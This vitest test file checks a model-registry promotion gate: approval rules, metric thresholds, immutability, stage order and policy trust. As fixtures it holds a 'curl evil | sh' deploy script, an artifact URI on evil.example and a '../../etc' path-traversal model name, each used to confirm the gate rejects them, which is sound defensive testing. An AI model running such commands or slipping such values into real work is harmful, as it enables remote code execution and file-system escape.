import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { annotationKeyMatches, evaluateGate } from '../src/gate/evaluate.js';
import { matchesGlob } from '../src/gate/glob.js';
import type { PromotionPolicy } from '../src/manifest/types.js';
import type { CheckResult, Decision } from '../src/gate/types.js';
import {
  approve,
  artifacts,
  promotion,
  baseFiles,
  gateInput,
  HEAD_SHA,
  hex,
  history,
  MEMBERS,
  OLD_SHA,
  POLICY,
  promote3,
  teams,
  version,
  vpath,
} from './gate-fixtures.js';

const approvedBy = [approve('gina'), approve('carol')];
const checks = (d: Decision): CheckResult[] => d.transitions.flatMap((t) => [...t.checks, ...t.rules.flatMap((r) => r.results)]);
const failed = (d: Decision) => checks(d).filter((c) => c.status === 'fail');
const failedNames = (d: Decision) => failed(d).map((c) => c.check);

describe('policy path globs', () => {
  it('match as documented: * and ? within a folder, ** across, **/ any folders or none', () => {
    const cases: Array<[string, string, boolean]> = [
      ['policies/promotion.yaml', 'policies/**', true],
      ['policies', 'policies/**', false],
      ['models/a/model.yaml', 'models/*/model.yaml', true],
      ['models/a/b/model.yaml', 'models/*/model.yaml', false],
      ['models/a/b/model.yaml', 'models/**/model.yaml', true],
      ['models/model.yaml', 'models/**/model.yaml', true],
      ['models/a.yaml', 'models/?.yaml', true],
      ['models/ab.yaml', 'models/?.yaml', false],
      ['a+b(c).yaml', 'a+b(c).yaml', true],
      ['axb.yaml', 'a.b.yaml', false],
      ['deep/er/x.md', '**.md', true],
    ];
    for (const [path, glob, expected] of cases) expect(matchesGlob(path, glob), `${glob} ~ ${path}`).toBe(expected);
  });

  it('answers for a glob of many ** over a long path (SPEC §14: nothing backtracks)', () => {
    const path = `${'a/'.repeat(20_000)}x`;
    expect(matchesGlob(path, '**a**a**a**a**a**a**b')).toBe(false);
    expect(matchesGlob(path, '**/a/**/a/**/a/**/x')).toBe(true);
  });
});

describe('evaluateGate: promotion to Production', () => {
  it('passes with every rule met and both approval groups satisfied', async () => {
    const d = await evaluateGate(gateInput(promote3(), { reviews: approvedBy }));
    expect(failed(d)).toEqual([]);
    expect(d.decision).toBe('pass');
    const t = d.transitions.find((x) => x.version === 3)!;
    expect(t).toMatchObject({ kind: 'stage', from: 'Staging', to: 'Production', champion: { version: 2 } });
    expect(t.rules.map((r) => r.rule)).toEqual(['to-production', 'models.fraud-detector: Staging → Production'.replace('Staging → ', '')]);
    const archived = d.transitions.find((x) => x.version === 2)!;
    expect(archived.checks.find((c) => c.check === 'coverage')!.detail).toMatch(/archived by the promotion of fraud-detector@3/);
  });

  it('is pending, naming who must approve, while approvals are missing', async () => {
    const d = await evaluateGate(gateInput(promote3()));
    expect(d.decision).toBe('pending');
    const pending = checks(d).filter((c) => c.status === 'pending');
    expect(pending.map((c) => c.missing)).toEqual(['1 more from team ml-governance', '1 more from carol, dave']);
  });

  it('does not count the author approving their own pull request', async () => {
    const input = gateInput(promote3(), { reviews: [approve('Gina'), approve('carol')] });
    input.pullRequest!.author = { login: 'CAROL', type: 'User' };
    const d = await evaluateGate(input);
    expect(d.decision).toBe('pending');
    expect(checks(d).find((c) => c.status === 'pending')!.missing).toBe('1 more from carol, dave');
  });

  it('does not count an approval given on an older commit', async () => {
    const d = await evaluateGate(gateInput(promote3(), { reviews: [approve('gina', OLD_SHA), approve('carol')] }));
    expect(d.decision).toBe('pending');
  });

  it('withdraws an approval followed by "changes requested", and a dismissed one', async () => {
    const changes = await evaluateGate(gateInput(promote3(), { reviews: [...approvedBy, approve('carol', 'b'.repeat(40), 'User', 'CHANGES_REQUESTED')] }));
    expect(changes.decision).toBe('pending');
    const dismissed = await evaluateGate(gateInput(promote3(), { reviews: [approve('gina'), approve('carol', 'b'.repeat(40), 'User', 'DISMISSED')] }));
    expect(dismissed.decision).toBe('pending');
    const commentAfter = await evaluateGate(gateInput(promote3(), { reviews: [...approvedBy, approve('carol', 'b'.repeat(40), 'User', 'COMMENTED')] }));
    expect(commentAfter.decision).toBe('pass');
  });

  it('lets the latest review of each reviewer win: a dismissal after an approval withdraws it, a comment does not', async () => {
    const at = (login: string, state: string, minute: number) => ({ ...approve(login, undefined, 'User', state), submittedAt: `2026-11-27T10:0${minute}:00Z` });
    const dismissed = await evaluateGate(
      gateInput(promote3(), { reviews: [at('gina', 'APPROVED', 1), at('carol', 'APPROVED', 2), at('carol', 'DISMISSED', 3)] }),
    );
    expect(dismissed.decision).toBe('pending');
    expect(checks(dismissed).find((c) => c.status === 'pending')!.missing).toBe('1 more from carol, dave');
    // Out of order in the list: submitted_at decides which review is the latest.
    const reordered = await evaluateGate(
      gateInput(promote3(), { reviews: [at('carol', 'CHANGES_REQUESTED', 3), at('gina', 'APPROVED', 1), at('carol', 'APPROVED', 2)] }),
    );
    expect(reordered.decision).toBe('pending');
    const reapproved = await evaluateGate(
      gateInput(promote3(), {
        reviews: [
          at('gina', 'APPROVED', 1),
          at('carol', 'CHANGES_REQUESTED', 2),
          at('carol', 'APPROVED', 3),
          at('carol', 'COMMENTED', 4),
          at('carol', 'PENDING', 5),
        ],
      }),
    );
    expect(reapproved.decision).toBe('pass');
  });

  it('keeps list order when a review lacks submitted_at: a later "changes requested" still withdraws the approval', async () => {
    const at = (login: string, state: string, minute: number) => ({ ...approve(login, undefined, 'User', state), submittedAt: `2026-11-27T10:0${minute}:00Z` });
    const d = await evaluateGate(
      gateInput(promote3(), { reviews: [at('gina', 'APPROVED', 1), at('carol', 'APPROVED', 2), approve('carol', undefined, 'User', 'CHANGES_REQUESTED')] }),
    );
    expect(d.decision).toBe('pending');
    expect(checks(d).find((c) => c.status === 'pending')!.missing).toBe('1 more from carol, dave');
  });

  it('never counts a bot, by type or by login', async () => {
    const d = await evaluateGate(gateInput(promote3(), { reviews: [approve('gina'), approve('carol', undefined, 'Bot'), approve('dave[bot]')] }));
    expect(d.decision).toBe('pending');
  });

  it('does not count a reviewer outside the team, and counts one person once per group', async () => {
    const outsider = await evaluateGate(gateInput(promote3(), { reviews: [approve('mallory'), approve('carol')] }));
    expect(outsider.decision).toBe('pending');
    const input = gateInput(
      { 'policies/promotion.yaml': stringify({ ...POLICY, rules: POLICY.rules.slice(1) }) },
      { reviews: [approve('pat'), approve('PAT'), approve('pat')] },
    );
    const d = await evaluateGate(input);
    expect(d.decision).toBe('pending');
    expect(checks(d).find((c) => c.status === 'pending')!.detail).toMatch(/^1\/2: approved by pat;/i);
  });

  it('compares logins case-insensitively', async () => {
    const d = await evaluateGate(gateInput(promote3(), { reviews: [approve('GINA'), approve('Carol')] }));
    expect(d.decision).toBe('pass');
  });

  it('fails (not pending) when the team lookup fails, without leaking the error text', async () => {
    const d = await evaluateGate(gateInput(promote3(), { reviews: approvedBy, teams: teams(MEMBERS, ['ml-governance']) }));
    expect(d.decision).toBe('fail');
    const f = failed(d)[0]!;
    expect(f.detail).toBe('could not be checked: the service answered HTTP 500');
    expect(JSON.stringify(d)).not.toContain('ghp_secret');
  });

  it('fails when a team lookup never answers', async () => {
    const slow = { isActiveMember: () => new Promise<boolean>(() => {}) };
    const d = await evaluateGate(gateInput(promote3(), { reviews: approvedBy, teams: slow, options: { approvals: 'require', timeoutMs: 20 } }));
    expect(d.decision).toBe('fail');
    expect(failed(d)[0]!.detail).toMatch(/timed out/);
  });

  it('fails a metric below its threshold, above its maximum, or missing', async () => {
    const low = await evaluateGate(promotion({ metrics: { auc: 0.94, recall: 0.9, latency_p95_ms: 40 } }, { reviews: approvedBy }));
    expect(low.decision).toBe('fail');
    expect(failed(low).map((c) => c.detail)).toContain('auc = 0.94 is below the minimum 0.95');
    const slow = await evaluateGate(promotion({ metrics: { auc: 0.96, recall: 0.9, latency_p95_ms: 140 } }, { reviews: approvedBy }));
    expect(failed(slow).map((c) => c.detail)).toEqual(['latency_p95_ms = 140 is above the maximum 100']);
    const missing = await evaluateGate(promotion({ metrics: { auc: 0.96, latency_p95_ms: 40 } }, { reviews: approvedBy }));
    expect(failed(missing).map((c) => c.detail)).toEqual(['metric recall is missing']);
  });

  it('fails a regression against the champion in Production on the base branch', async () => {
    const within = await evaluateGate(promotion({ metrics: { auc: 0.951, recall: 0.9, latency_p95_ms: 40 } }, { reviews: approvedBy }));
    expect(within.decision).toBe('pass');
    const worse = await evaluateGate(promotion({ metrics: { auc: 0.9455, recall: 0.9, latency_p95_ms: 40 } }, { reviews: approvedBy }));
    expect(worse.decision).toBe('fail');
    expect(failed(worse).map((c) => c.detail)).toContain('auc = 0.9455 regresses by 0.0245 from champion fraud-detector@2 (0.97); at most 0.02 allowed');
  });

  it('fails a missing required field (lineage)', async () => {
    const d = await evaluateGate(promotion({ lineage: { code: { repository: 'https://github.com/acme/fraud' } } }, { reviews: approvedBy }));
    expect(failedNames(d)).toEqual(['required field lineage.code.commit', 'required field lineage.data']);
  });

  it('fails when the artifact in the store was altered, or the store is down', async () => {
    const altered = await evaluateGate(gateInput(promote3(), { reviews: approvedBy, artifacts: artifacts([hex('3')]) }));
    expect(altered.decision).toBe('fail');
    expect(failed(altered)[0]).toMatchObject({ check: 'artifact (full)', detail: expect.stringMatching(/sha256 mismatch/) });
    const down = await evaluateGate(gateInput(promote3(), { reviews: approvedBy, artifacts: artifacts([], true) }));
    expect(failed(down)[0]!.detail).toBe('could not be checked: S3ServiceException');
  });
});

describe('evaluateGate: coverage and trust', () => {
  it('judges a pull request that edits the policy by the base policy', async () => {
    const weakened = stringify({
      ...POLICY,
      rules: [
        { name: 'anything', to: 'Production' },
        { name: 'free', paths: ['**'] },
      ],
    });
    const d = await evaluateGate(gateInput({ 'policies/promotion.yaml': weakened, ...promote3() }));
    expect(d.decision).toBe('pending');
    const policyChange = d.transitions.find((t) => t.file === 'policies/promotion.yaml')!;
    expect(policyChange.rules.map((r) => r.rule)).toEqual(['registry-config']);
    const promotion = d.transitions.find((t) => t.version === 3)!;
    expect(promotion.rules[0]!.rule).toBe('to-production');
    // with the platform team's two approvals and the promotion's approvals it may merge
    const ok = await evaluateGate(
      gateInput({ 'policies/promotion.yaml': weakened, ...promote3() }, { reviews: [...approvedBy, approve('pat'), approve('paula')] }),
    );
    expect(ok.decision).toBe('pass');
  });

  it('needs the platform approvals for a pull request that edits the workflow', async () => {
    const d = await evaluateGate(gateInput({ '.github/workflows/modelgate.yml': 'on: push\n' }, { reviews: [approve('pat')] }));
    expect(d.decision).toBe('pending');
    expect(d.transitions[0]!.rules[0]!.results[0]!.missing).toBe('1 more from team platform');
  });

  it('fails a file no rule covers', async () => {
    const d = await evaluateGate(gateInput({ 'scripts/deploy.sh': 'curl evil | sh\n' }));
    expect(d.decision).toBe('fail');
    expect(d.uncovered).toEqual(['scripts/deploy.sh']);
  });

  it('refuses None → Production unless a rule allows the skip', async () => {
    const skip = { [vpath(4)]: stringify(version(4, 'Production')) };
    const d = await evaluateGate(gateInput(skip, { reviews: approvedBy }));
    expect(d.decision).toBe('fail');
    expect(failedNames(d)).toContain('stage order');
    const files = baseFiles();
    files.set('policies/promotion.yaml', stringify({ ...POLICY, rules: [{ name: 'hotfix', to: 'Production', from: ['None'], allowSkip: true }] }));
    files.set(vpath(2), stringify(version(2, 'Archived')));
    const allowed = await evaluateGate(gateInput(skip, {}, files));
    expect(failed(allowed)).toEqual([]);
    expect(allowed.decision).toBe('pass');
  });

  it('refuses a None → Production stage change that the per-model rule alone would cover', async () => {
    const files = baseFiles();
    files.set(vpath(4), stringify(version(4, 'None')));
    const change = {
      [vpath(4)]: stringify(version(4, 'Production')),
      [vpath(2)]: stringify(version(2, 'Archived', { metrics: { auc: 0.97, recall: 0.9, latency_p95_ms: 45 } })),
    };
    const d = await evaluateGate(gateInput(change, { reviews: approvedBy }, files));
    expect(d.decision).toBe('fail');
    expect(failed(d).map((c) => c.check)).toEqual(['stage order']);
    expect(d.transitions.find((t) => t.version === 4)!.rules.map((r) => r.rule)).toEqual(['models.fraud-detector: Production']);
  });

  it('does not let an annotation rule with allowSkip wave through a None → Production change that also sets an annotation', async () => {
    const files = baseFiles();
    files.set(
      'policies/promotion.yaml',
      stringify({ ...POLICY, rules: [...POLICY.rules, { name: 'hotfix-note', to: 'Production', annotations: ['*'], allowSkip: true }] }),
    );
    files.set(vpath(4), stringify(version(4, 'None')));
    const change = {
      [vpath(4)]: stringify(version(4, 'Production', { annotations: { hotfix: 'true' } })),
      [vpath(2)]: stringify(version(2, 'Archived', { metrics: { auc: 0.97, recall: 0.9, latency_p95_ms: 45 } })),
    };
    const d = await evaluateGate(gateInput(change, { reviews: approvedBy }, files));
    expect(d.transitions.find((t) => t.version === 4)!.rules.map((r) => r.rule)).toEqual(['models.fraud-detector: Production', 'hotfix-note']);
    expect(d.decision).toBe('fail');
    expect(failedNames(d)).toEqual(['stage order']);
  });

  it("applies a model's own rules to that model only", async () => {
    const files = baseFiles();
    files.set('models/churn/model.yaml', stringify({ apiVersion: 'modelgate.dev/v1', kind: 'Model', name: 'churn' }));
    files.set(vpath(1, 'churn'), stringify(version(1, 'Staging', { model: 'churn', metrics: { auc: 0.96, latency_p95_ms: 40 } })));
    const d = await evaluateGate(
      gateInput(
        { [vpath(1, 'churn')]: stringify(version(1, 'Production', { model: 'churn', metrics: { auc: 0.96, latency_p95_ms: 40 } })) },
        { reviews: approvedBy },
        files,
      ),
    );
    expect(failed(d)).toEqual([]);
    expect(d.decision).toBe('pass');
    expect(d.transitions[0]!.rules.map((r) => r.rule)).toEqual(['to-production']);
    // The same metrics on fraud-detector fail its own `recall` rule.
    const own = await evaluateGate(promotion({ metrics: { auc: 0.96, latency_p95_ms: 40 } }, { reviews: approvedBy }));
    expect(failed(own).map((c) => `${c.check}: ${c.detail}`)).toEqual(['metric recall ≥ 0.88: metric recall is missing']);
  });

  it('fails a promotion that also rewrites metrics, the artifact or the lineage on the way', async () => {
    const cases: Array<[Partial<ReturnType<typeof version>>, string]> = [
      [{ metrics: { auc: 0.999, recall: 0.99, latency_p95_ms: 10 } }, 'metrics'],
      [{ artifact: { uri: `s3://ml-models/registry/fraud-detector/sha256/${hex('9')}/model.joblib`, sha256: hex('9'), size: 1009 } }, 'artifact'],
      [{ lineage: { code: { repository: 'https://github.com/acme/fraud', commit: 'd'.repeat(40) }, data: [{ id: 'txn-2023-q3-v5' }] } }, 'lineage'],
      [{ createdBy: 'someone-else', version: 3 }, 'createdBy'],
    ];
    for (const [over, field] of cases) {
      const change = { ...promote3(), [vpath(3)]: stringify(version(3, 'Production', over)) };
      const d = await evaluateGate(gateInput(change, { reviews: approvedBy }));
      expect(d.decision, field).toBe('fail');
      expect(
        failed(d).map((c) => `${c.check}: ${c.detail}`),
        field,
      ).toContain(`immutability: only stage and annotations change once merged; changed: ${field}`);
    }
  });

  it('fails two versions in Production after the merge', async () => {
    const d = await evaluateGate(gateInput({ [vpath(3)]: stringify(version(3, 'Production')) }, { reviews: approvedBy }));
    expect(d.decision).toBe('fail');
    expect(failed(d).find((c) => c.check === 'one Production version')!.detail).toMatch(/2 versions of fraud-detector.*2, 3|3, 2/);
  });

  it('fails a rollback to a version that never was in Production', async () => {
    const files = baseFiles();
    files.set(vpath(4), stringify(version(4, 'Archived')));
    const change = {
      [vpath(4)]: stringify(version(4, 'Production')),
      [vpath(2)]: stringify(version(2, 'Archived', { metrics: { auc: 0.97, recall: 0.9, latency_p95_ms: 45 } })),
    };
    const d = await evaluateGate(gateInput(change, { reviews: [approve('olga')] }, files));
    expect(d.decision).toBe('fail');
    expect(failed(d).map((c) => c.detail)).toContain('fraud-detector@4 was never in Production on the base branch');
    const proven = await evaluateGate(gateInput(change, { reviews: [approve('olga')], history: history([['fraud-detector', 4]]) }, files));
    expect(failed(proven)).toEqual([]);
  });

  it('fails a manifest whose model name escapes its folder, and a path outside the layout', async () => {
    const escape = await evaluateGate(gateInput({ [vpath(4)]: stringify(version(4, 'None', { model: '../../etc' })) }));
    expect(escape.decision).toBe('fail');
    expect(escape.problems[0]).toMatchObject({ file: vpath(4), line: expect.any(Number) });
    const odd = await evaluateGate(gateInput({ 'models/Fraud_X/versions/1.yaml': stringify(version(1, 'None', { model: 'Fraud_X' })) }));
    expect(odd.decision).toBe('fail');
    // Layout is validate's rule, run on the merged registry by the same code.
    expect(failedNames(odd)).toContain('validate');
    expect(odd.problems.map((p) => p.code)).toContain('E_MODEL_NAME');
  });

  it('fails any change of an immutable field, and deleting a version', async () => {
    const edited = await evaluateGate(gateInput({ [vpath(3)]: stringify(version(3, 'Staging', { metrics: { auc: 0.999 } })) }));
    expect(failed(edited).map((c) => c.detail)).toContain('only stage and annotations change once merged; changed: metrics');
    const deleted = await evaluateGate(gateInput({ [vpath(3)]: null }));
    expect(deleted.decision).toBe('fail');
  });

  it('fails an unparsable manifest with its position', async () => {
    const d = await evaluateGate(gateInput({ [vpath(4)]: 'apiVersion: modelgate.dev/v1\nstage: [oops\n' }));
    expect(d.decision).toBe('fail');
    expect(d.problems[0]!.file).toBe(vpath(4));
  });

  it('covers an annotation change by the rule listing its key', async () => {
    const alert = {
      [vpath(2)]: stringify(version(2, 'Production', { metrics: { auc: 0.97, recall: 0.9, latency_p95_ms: 45 }, annotations: { performance_alert: 'true' } })),
    };
    const d = await evaluateGate(gateInput(alert, { reviews: [approve('olga')] }));
    expect(d.decision).toBe('pass');
    expect(d.transitions[0]).toMatchObject({ kind: 'annotations', annotationKeys: ['performance_alert'] });
    const other = { [vpath(2)]: stringify(version(2, 'Production', { metrics: { auc: 0.97, recall: 0.9, latency_p95_ms: 45 }, annotations: { owner: 'x' } })) };
    expect((await evaluateGate(gateInput(other))).uncovered).toEqual([vpath(2)]);
  });

  it('covers annotation keys by wildcard rules: `*` any key, `prefix/*` only keys under that prefix', async () => {
    const annotated = (annotations: Record<string, string>) => ({
      [vpath(2)]: stringify(version(2, 'Production', { metrics: { auc: 0.97, recall: 0.9, latency_p95_ms: 45 }, annotations })),
    });
    const withRules = (...rules: PromotionPolicy['rules']) => {
      const files = baseFiles();
      files.set('policies/promotion.yaml', stringify({ ...POLICY, rules: [...POLICY.rules, ...rules] }));
      return files;
    };
    const monitoring = withRules({ name: 'monitoring', annotations: ['monitoring.acme.io/*'], approvals: [{ count: 1, teams: ['oncall'] }] });
    const under = await evaluateGate(gateInput(annotated({ 'monitoring.acme.io/drift': 'high' }), { reviews: [approve('olga')] }, monitoring));
    expect(under.uncovered).toEqual([]);
    expect(under.decision).toBe('pass');
    expect(under.transitions[0]!.rules.map((r) => r.rule)).toEqual(['monitoring']);
    // Without oncall's approval the wildcard rule's approvals apply: pending, not a pass.
    expect((await evaluateGate(gateInput(annotated({ 'monitoring.acme.io/drift': 'high' }), {}, monitoring))).decision).toBe('pending');
    // Neither the bare prefix, a look-alike prefix, nor a key without a prefix is under it.
    for (const key of ['monitoring.acme.io', 'monitoring.acme.io.evil/drift', 'drift', 'other.io/monitoring.acme.io/drift']) {
      expect((await evaluateGate(gateInput(annotated({ [key]: 'x' }), { reviews: [approve('olga')] }, monitoring))).uncovered, key).toEqual([vpath(2)]);
    }
    const any = withRules({ name: 'any-annotation', annotations: ['*'], approvals: [{ count: 1, teams: ['oncall'] }] });
    for (const key of ['owner', 'team.acme.io/contact']) {
      const d = await evaluateGate(gateInput(annotated({ [key]: 'x' }), { reviews: [approve('olga')] }, any));
      expect(d.uncovered, key).toEqual([]);
      expect(d.decision, key).toBe('pass');
    }
    // A wildcard covers annotations only: the same policy leaves a stage change to the stage rules.
    const d = await evaluateGate(gateInput(promote3(), { reviews: approvedBy }, any));
    expect(d.transitions.flatMap((t) => t.rules.map((r) => r.rule))).not.toContain('any-annotation');
  });

  it('matches annotation patterns exactly, by prefix, or all', () => {
    expect(annotationKeyMatches('performance_alert', 'performance_alert')).toBe(true);
    expect(annotationKeyMatches('performance_alert', 'performance_alert2')).toBe(false);
    expect(annotationKeyMatches('*', 'a.b/c')).toBe(true);
    expect(annotationKeyMatches('a.b/*', 'a.b/c')).toBe(true);
    expect(annotationKeyMatches('a.b/*', 'a.b/')).toBe(false);
    expect(annotationKeyMatches('a.b/*', 'a.bc/d')).toBe(false);
    expect(annotationKeyMatches('a.b/*', 'x/a.b/c')).toBe(false);
  });

  it("registers a new model only with its first version's rule and a paths rule for its settings", async () => {
    const change = {
      'models/churn/model.yaml': stringify({ apiVersion: 'modelgate.dev/v1', kind: 'Model', name: 'churn' }),
      [vpath(1, 'churn')]: stringify(version(1, 'None', { model: 'churn' })),
    };
    // The first version does not cover the model's settings (a Deployment running any image, say).
    const uncovered = await evaluateGate(gateInput(change));
    expect(uncovered.decision).toBe('fail');
    expect(uncovered.uncovered).toEqual(['models/churn/model.yaml']);
    const files = baseFiles();
    files.set(
      'policies/promotion.yaml',
      stringify({ ...POLICY, rules: [...POLICY.rules, { name: 'model-settings', paths: ['models/*/model.yaml', 'models/*/README.md'] }] }),
    );
    const d = await evaluateGate(gateInput(change, {}, files));
    expect(failed(d)).toEqual([]);
    expect(d.decision).toBe('pass');
  });

  it('passes a model README edit under the paths rule that lists it', async () => {
    const files = baseFiles();
    files.set('policies/promotion.yaml', stringify({ ...POLICY, rules: [...POLICY.rules, { name: 'model-settings', paths: ['models/*/README.md'] }] }));
    const d = await evaluateGate(gateInput({ 'models/fraud-detector/README.md': '# Fraud detector\n' }, {}, files));
    expect(failed(d)).toEqual([]);
    expect(d.decision).toBe('pass');
  });

  it("refuses what validate refuses after the merge: a foreign artifact URI, another model's object, a missing model.yaml", async () => {
    const foreign = await evaluateGate(
      gateInput({
        [vpath(4)]: stringify(version(4, 'None', { artifact: { uri: `https://evil.example/${hex('4')}/model.joblib`, sha256: hex('4'), size: 1004 } })),
      }),
    );
    expect(foreign.decision).toBe('fail');
    expect(foreign.problems.map((p) => p.code)).toContain('E_ARTIFACT_URI');
    const other = await evaluateGate(
      gateInput({
        [vpath(4)]: stringify(
          version(4, 'None', { artifact: { uri: `s3://ml-models/registry/churn/sha256/${hex('4')}/model.joblib`, sha256: hex('4'), size: 1004 } }),
        ),
      }),
    );
    expect(other.decision).toBe('fail');
    expect(other.problems.map((p) => p.code)).toContain('E_ARTIFACT_URI');
    const orphan = await evaluateGate(gateInput({ [vpath(1, 'churn')]: stringify(version(1, 'None', { model: 'churn' })) }));
    expect(orphan.decision).toBe('fail');
    expect(orphan.problems.map((p) => p.code)).toContain('E_MISSING_MODEL');
  });

  it("refuses a version number far above the model's highest on the base", async () => {
    const artifact = { uri: `s3://ml-models/registry/fraud-detector/sha256/${hex('9')}/model.joblib`, sha256: hex('9'), size: 1009 };
    const squat = await evaluateGate(gateInput({ [vpath(999999999)]: stringify(version(999999999, 'None', { artifact })) }));
    expect(squat.decision).toBe('fail');
    expect(failedNames(squat)).toContain('version number');
    const gap = await evaluateGate(gateInput({ [vpath(103)]: stringify(version(103, 'None', { artifact })) }));
    expect(failedNames(gap)).not.toContain('version number');
  });

  it('needs the annotation rule for a governed annotation set at registration', async () => {
    const d = await evaluateGate(gateInput({ [vpath(4)]: stringify(version(4, 'None', { annotations: { performance_alert: 'none' } })) }));
    expect(d.decision).toBe('pending');
    expect(d.transitions[0]!.rules.map((r) => r.rule)).toEqual(['register', 'alerts']);
  });

  it('counts one approver in one group only (distinctApprovers) and never a contributor', async () => {
    const files = baseFiles();
    const rule = {
      name: 'two',
      to: 'Staging' as const,
      from: ['None' as const],
      approvals: [
        { count: 1, users: ['carol'] },
        { count: 1, users: ['carol', 'dave'] },
      ],
    };
    files.set('policies/promotion.yaml', stringify({ ...POLICY, rules: [rule] }));
    files.set(vpath(4), stringify(version(4, 'None')));
    const change = { [vpath(4)]: stringify(version(4, 'Staging')) };
    const one = await evaluateGate(gateInput(change, { reviews: [approve('carol')] }, files));
    expect(one.decision).toBe('pending');
    // dave fills the second group, carol the first: the matching satisfies both.
    const both = await evaluateGate(gateInput(change, { reviews: [approve('dave'), approve('carol')] }, files));
    expect(both.decision).toBe('pass');
    const contributed = await evaluateGate(gateInput(change, { reviews: [approve('dave'), approve('carol')], contributors: ['Dave'] }, files));
    expect(contributed.decision).toBe('pending');
    files.set('policies/promotion.yaml', stringify({ ...POLICY, rules: [{ ...rule, distinctApprovers: false }] }));
    const shared = await evaluateGate(gateInput(change, { reviews: [approve('carol')] }, files));
    expect(shared.decision).toBe('pass');
  });

  it('fails a rule with approvals on a commit whose author or committer is no GitHub account, unless the rule allows it', async () => {
    const files = baseFiles();
    const rule = { name: 'stage', to: 'Staging' as const, from: ['None' as const], approvals: [{ count: 1, users: ['carol'] }] };
    files.set('policies/promotion.yaml', stringify({ ...POLICY, rules: [rule] }));
    files.set(vpath(4), stringify(version(4, 'None')));
    const change = { [vpath(4)]: stringify(version(4, 'Staging')) };
    const unlinkedCommits = [{ sha: 'a'.repeat(40), role: 'author' as const, email: 'ghost@example.com' }];
    const d = await evaluateGate(gateInput(change, { reviews: [approve('carol')], unlinkedCommits }, files));
    expect(d.decision).toBe('fail');
    const failed = d.transitions.flatMap((t) => t.rules.flatMap((r) => r.results)).filter((c) => c.status === 'fail');
    expect(failed.map((c) => c.check)).toEqual(['contributors']);
    expect(failed[0]!.detail).toContain(`commit ${'a'.repeat(12)}: author ghost@example.com is not a GitHub account`);
    for (const allowed of [{ unlinkedCommits: 'allow' as const }, { excludeContributors: false }]) {
      files.set('policies/promotion.yaml', stringify({ ...POLICY, rules: [{ ...rule, ...allowed }] }));
      expect((await evaluateGate(gateInput(change, { reviews: [approve('carol')], unlinkedCommits }, files))).decision).toBe('pass');
    }
  });

  it("fails a pull request into the registry's branch when that branch is not the repository's default: its policy is not the trusted one", async () => {
    const pullRequest = { number: 7, author: { login: 'maria', type: 'User' }, headSha: HEAD_SHA, baseRef: 'main' };
    const trusted = await evaluateGate(gateInput(promote3(), { reviews: approvedBy, pullRequest: { ...pullRequest, defaultBranch: 'main' } }));
    expect(trusted.decision).toBe('pass');
    const other = await evaluateGate(gateInput(promote3(), { reviews: approvedBy, pullRequest: { ...pullRequest, defaultBranch: 'trunk' } }));
    expect(other.decision).toBe('fail');
    const failed = other.transitions.flatMap((t) => t.checks).filter((c) => c.status === 'fail');
    expect(failed.map((c) => c.check)).toEqual(['base branch']);
  });

  it('reports approvals without requiring them under --no-approvals, and looks no team up', async () => {
    const t = teams(MEMBERS);
    const d = await evaluateGate(gateInput(promote3(), { reviews: undefined, pullRequest: undefined, teams: t, options: { approvals: 'skip' } }));
    expect(d.decision).toBe('pass');
    expect(t.calls).toEqual([]);
  });

  it('fails when the base policy cannot be read', async () => {
    const files = baseFiles();
    files.set('policies/promotion.yaml', 'rules: [unclosed\n');
    const d = await evaluateGate(gateInput(promote3(), { reviews: approvedBy }, files));
    expect(d.decision).toBe('fail');
    expect(d.problems.length).toBeGreaterThan(0);
  });
});
